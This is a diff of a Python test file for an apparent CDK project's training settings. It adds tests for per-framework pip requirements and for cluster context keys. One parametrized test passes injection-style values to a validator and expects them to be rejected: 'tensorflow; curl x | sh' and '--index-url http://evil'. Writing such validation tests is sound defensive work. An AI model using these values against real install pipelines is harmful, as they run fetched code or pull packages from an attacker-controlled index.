@@ -128,9 +128,21 @@ def test_reads_the_strings_that_dash_c_passes() -> None:
     assert s.training_command == ("{python}", "train.py", "--epochs", "3")
 
 
-def test_framework_picks_its_python() -> None:
-    assert settings_from_app_context(framework="mxnet").training_python == "/opt/conda/envs/mxnet/bin/python"
-    assert settings_from_app_context(framework="mxnet", training_python="/usr/bin/python3").training_python == "/usr/bin/python3"
+def test_framework_picks_its_requirements_for_the_default_python() -> None:
+    mx = settings_from_app_context(framework="mxnet")
+    assert (mx.training_python, mx.training_requirements) == ("/usr/bin/python3", ("mxnet-cu112==1.9.1", "numpy<1.24"))
+    own = settings_from_app_context(framework="mxnet", training_python="/opt/conda/envs/mxnet/bin/python")
+    assert (own.training_python, own.training_requirements) == ("/opt/conda/envs/mxnet/bin/python", ())
+    both = settings_from_app_context(training_python="/opt/tf/bin/python", training_requirements='["tensorflow==2.17.1", "keras>=3.5,<4"]')
+    assert both.training_requirements == ("tensorflow==2.17.1", "keras>=3.5,<4")
+    assert settings_from_app_context(training_requirements="[]").training_requirements == ()
+    assert settings_from_app_context(training_requirements="tensorflow>=2.17,<2.18").training_requirements == ("tensorflow>=2.17,<2.18",)
+
+
+@pytest.mark.parametrize("value", ["tensorflow; curl x | sh", ["ok==1", "it's"], "--index-url http://evil"])
+def test_fails_when_training_requirements_are_not_pip_specifiers(value: object) -> None:
+    with pytest.raises(ValueError, match=r"'training_requirements': got .*; allowed: a list of pip requirement specifiers"):
+        settings_from_app_context(training_requirements=value)
 
 
 def test_docs_list_every_context_key_with_its_default() -> None:
@@ -146,7 +158,12 @@ def test_docs_list_every_context_key_with_its_default() -> None:
 def test_cdk_json_holds_every_context_key_at_its_default() -> None:
     import json
 
+    from infra.cluster_config import CLUSTER_CONTEXT_KEYS, SHARED_KEYS, ClusterSettings
+
     context = json.loads((DOCS.parents[1] / "cdk.json").read_text())["context"]
     ours = {k: v for k, v in context.items() if not k.startswith("@aws-cdk/")}
-    assert ours == {k.name: k.default for k in CONTEXT_KEYS}
-    assert StackSettings.from_mapping(ours) == StackSettings()
+    assert ours == {k.name: k.default for k in CONTEXT_KEYS + CLUSTER_CONTEXT_KEYS}
+    single = {k.name: ours[k.name] for k in CONTEXT_KEYS}
+    assert StackSettings.from_mapping(single) == StackSettings()
+    cluster = {k: v for k, v in ours.items() if k in SHARED_KEYS or k.startswith("cluster_")}
+    assert ClusterSettings.from_mapping(cluster) == ClusterSettings()
